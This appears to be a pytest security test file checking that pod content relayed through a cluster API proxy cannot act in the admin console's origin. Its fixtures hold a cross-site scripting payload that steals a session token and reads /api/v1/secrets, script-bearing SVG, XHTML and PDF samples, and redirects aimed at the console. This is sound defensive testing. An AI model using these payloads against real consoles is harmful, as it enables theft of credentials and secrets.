"""Content of a tenant's pod has the console's origin and can do nothing there."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
from support.browser import Visitor
from support.extension import HERE
from support.namespaces import Space
from support.neighbour import Neighbour, ReceivedRequest, Reply
from support.process import ServerProcess
from support.running import run_pod

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

TAKE_OVER = """
document.title = "ran";
navigator.serviceWorker.register("worker.js", {scope: "/"});
fetch("told?" + sessionStorage["fairlead.token"]);
fetch("/api/v1/secrets", {headers: {Authorization: "Bearer " + sessionStorage["fairlead.token"]}});
fetch("/console/about").then((answer) => answer.text()).then((text) => fetch("told?" + text));
"""
PAGE = f"""<!doctype html><title>still</title><script>{TAKE_OVER}</script>
<form action="told" method="post"><button>Go on</button></form><img src="seen">"""
PICTURE = """<svg xmlns="http://www.w3.org/2000/svg"><title>still</title>
<script>document.querySelector("title").textContent = "ran"</script></svg>"""
DOCUMENT = """<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>
<title>still</title><script>document.title = "ran"</script></head></html>"""
PAPER = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"
CONTENTS = {
    "/page": ("text/html", PAGE.encode()),
    "/worker.js": ("text/javascript", b"onfetch = (event) => event.respondWith(new Response('x'))"),
    "/picture": ("image/svg+xml", PICTURE.encode()),
    "/document": ("application/xhtml+xml", DOCUMENT.encode()),
    "/paper": ("application/pdf", PAPER),
}
HEADERS = {
    "Service-Worker-Allowed": "/",
    "Set-Cookie": "theirs=1; Path=/; Secure; HttpOnly",
    "Content-Security-Policy": "sandbox allow-scripts allow-same-origin allow-forms",
}


DIALECTS = ["kubernetes", pytest.param("cluster", marks=pytest.mark.slow)]


@dataclass(slots=True)
class Trap:
    """A pod that everybody may look at through the server's proxy, and an administrator, who is
    signed in to the console in the tab that comes upon it."""

    neighbour: Neighbour
    visitor: Visitor
    url: str

    @property
    def page(self) -> Page:
        return self.visitor.page

    @property
    def requests(self) -> list[str]:
        return [request.path for request in self.neighbour.requests]

    def look(self, path: str) -> None:
        self.neighbour.requests.clear()
        self.page.goto(f"{self.url}{path}", wait_until="load")


@pytest.fixture(scope="module", params=DIALECTS)
def trap(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, chromium: Browser
) -> Iterator[Trap]:
    server = ServerProcess(tmp_path_factory.mktemp("trap"), request.param, HERE).start()
    neighbour = Neighbour()
    neighbour.answer = lambda item: _reply(item, server)
    space = Space(server, server.client())
    space.ready_for_pods()
    run_pod(space, "web")
    _open_to_everybody(space)
    proxy = space.collection("pods").item(f"web:{neighbour.port}", "proxy")
    visitor = Visitor(chromium, server)
    visitor.begin("#/kinds", "admin-token")
    yield Trap(neighbour, visitor, f"{server.address}{proxy}")
    visitor.close()
    neighbour.close()
    server.stop()


def _reply(request: ReceivedRequest, server: ServerProcess) -> Reply:
    if request.path in ("/redirect", "/absolute"):
        host = server.address if request.path == "/absolute" else ""
        return Reply(302, {"Location": f"{host}/console/#code=theirs"})
    kind, body = CONTENTS.get(request.path, ("text/plain", b""))
    return Reply(headers={"Content-Type": kind, **HEADERS}, body=body)


def _open_to_everybody(space: Space) -> None:
    """As the admin of a namespace can."""
    rule = {"apiGroups": [""], "resources": ["pods/proxy"], "verbs": ["get", "create"]}
    space.collection("roles", "rbac.authorization.@").create("look", rules=[rule])
    group = space.dialect.group_name("rbac.authorization.@")
    everybody = {"apiGroup": group, "kind": "Group", "name": "system:unauthenticated"}
    space.collection("rolebindings", "rbac.authorization.@").create(
        "look",
        roleRef={"apiGroup": group, "kind": "Role", "name": "look"},
        subjects=[everybody],
    )


@pytest.mark.parametrize("path", ["/page", "/picture", "/document"])
def test_no_script_of_a_relayed_page_runs(trap: Trap, path: str) -> None:
    trap.look(path)
    assert trap.requests[0] == path
    assert trap.page.title() == "still"
    assert not [request for request in trap.requests if "told" in request or "worker" in request]


def test_a_relayed_page_has_an_origin_of_its_own_without_the_sessions_storage(trap: Trap) -> None:
    trap.look("/page")
    assert trap.page.evaluate("self.origin") == "null"
    assert trap.page.evaluate(
        "() => { try { return sessionStorage } catch (e) { return e.name } }"
    ) == ("SecurityError")


def test_a_form_of_a_relayed_page_is_not_sent(trap: Trap) -> None:
    trap.look("/page")
    trap.page.get_by_role("button").click()
    trap.page.goto(f"{trap.url}/picture")  # what the click began would have come before it
    assert trap.requests[-1] == "/picture"
    assert "/told" not in trap.requests


def test_a_relayed_pdf_is_not_opened_in_the_consoles_origin(trap: Trap) -> None:
    page = trap.page.context.new_page()  # which may be left while it loads
    page.goto(f"{trap.url}/page")
    with page.expect_response(f"{trap.url}/paper") as reported:
        page.evaluate("url => { location = url }", f"{trap.url}/paper")
    policy = reported.value.header_value("content-security-policy") or ""
    page.close()
    assert policy.startswith("sandbox, ")


@pytest.mark.parametrize("path", ["/redirect", "/absolute"])
def test_a_redirect_does_not_lead_into_the_console(trap: Trap, path: str) -> None:
    trap.look(path)
    assert not trap.page.url.split("://")[1].partition("/")[2].startswith("console")


def test_nothing_of_it_is_left_in_the_console(trap: Trap) -> None:
    trap.look("/page")
    assert trap.page.context.cookies() == []
    trap.page.goto(f"{trap.visitor.server.address}/console/")
    trap.page.get_by_role("navigation", name="Views").wait_for()
    workers = "navigator.serviceWorker.getRegistrations().then((found) => found.length)"
    assert trap.page.evaluate(workers) == 0
